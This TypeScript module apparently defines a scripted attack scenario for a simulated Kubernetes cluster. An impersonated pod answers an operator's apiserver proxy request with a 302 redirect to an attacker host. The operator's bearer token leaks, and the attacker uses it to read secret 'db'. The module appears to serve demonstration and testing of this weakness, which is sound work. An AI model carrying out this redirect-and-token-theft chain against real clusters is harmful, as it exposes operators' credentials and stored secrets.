import { Attacker } from '../../attacker/attacker';
import { neighbour } from '../../attacker/position';
import { KubeClient } from '../../client/kube-client';
import { addresses, ports, webPodAddress } from '../addresses';
import { randomCanaries } from '../canaries';
import { clientOn } from './client-on';
import { playOf } from './play';
import { plantSecret, readSecret } from './secret-of-pod';

const PAGE = '/api/v1/namespaces/default/pods/web:8080/proxy/';

export const redirectStealsToken = playOf({
  steps: [
    'admin: kubectl create secret generic db …',
    'attacker: answers for pod web: HTTP/1.1 302 Found',
    'operator: kubectl get --raw /api/v1/namespaces/default/pods/web:8080/proxy/',
    'attacker: waits at http://10.0.0.66 and https://10.0.0.66',
    'attacker: kubectl --token=… get secret db -o jsonpath={.data.password}',
  ],
  options: {
    login: { about: 'what the operator’s kubeconfig has', oneOf: ['token', 'client-certificate'] },
  },
  async play(stage, { options }) {
    const cluster = await stage.cluster();
    const { attackerHost, controlPlane, workstation, credentials, pki } = cluster;
    const { signal } = stage;
    const secret = await plantSecret(stage, cluster, { name: 'db', spec: {} });
    await stage.did('admin', 'kubectl create secret generic db …', 'secret/db created');

    const rules = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
    const login =
      options.login === 'token'
        ? { token: await credentials.token({ namespace: 'ops', name: 'operator', rules }) }
        : { clientCertificate: pki.admin };
    await using operator = new KubeClient({
      from: workstation,
      server: { host: addresses.controlPlane, port: ports.apiserver },
      trust: cluster.clientTrust(addresses.controlPlane),
      ...login,
    });

    const web = { address: webPodAddress, port: ports.web };
    const position = neighbour(controlPlane, attackerHost, web.address);
    const { forged, tampered } = randomCanaries(stage.random);
    await using attack = await new Attacker({
      host: attackerHost,
      random: stage.random.for('attacker'),
    }).attack({
      technique: 'redirect',
      targets: [web],
      position,
      present: null,
      mode: 'impersonate',
      forged,
      tampered,
    });
    await stage.did('attacker', 'answers for pod web: HTTP/1.1 302 Found', position.describe());

    const page = await operator.raw({ method: 'GET', path: PAGE, signal });
    const look = `kubectl get --raw ${PAGE}`;
    await attack.withdraw();
    const [sent] = attack.loot.redirects;
    const token = attack.loot.credentials[0]?.value;
    await stage.did('operator', look, page.ok ? page.stdout.toString('utf8').trim() : page.words);
    const wait = `waits at ${sent?.location.replace(/\/api\/.*|:\d+.*/, '') ?? 'an address of its own'}`;
    const who = sent?.followedBy?.split(' ')[0] ?? 'nobody';
    if (token === undefined) await stage.refused('attacker', wait, `${who} came, without a token`);
    else {
      const saw = `${who} came: Authorization: Bearer ${token.slice(0, 24)}…`;
      await stage.gained('attacker', wait, saw, 'the operator’s token, in clear');
    }

    await using thief = clientOn(attackerHost, cluster, token === undefined ? {} : { token });
    const read = `kubectl${token === undefined ? '' : ' --token=…'} get secret db -o jsonpath={.data.password}`;
    const password = await readSecret(thief, secret.name, signal);
    if (secret.isIn(password.text)) {
      await stage.gained('attacker', read, password.text, 'what the operator may read: secret/db');
    } else await stage.refused('attacker', read, password.text);
  },
});
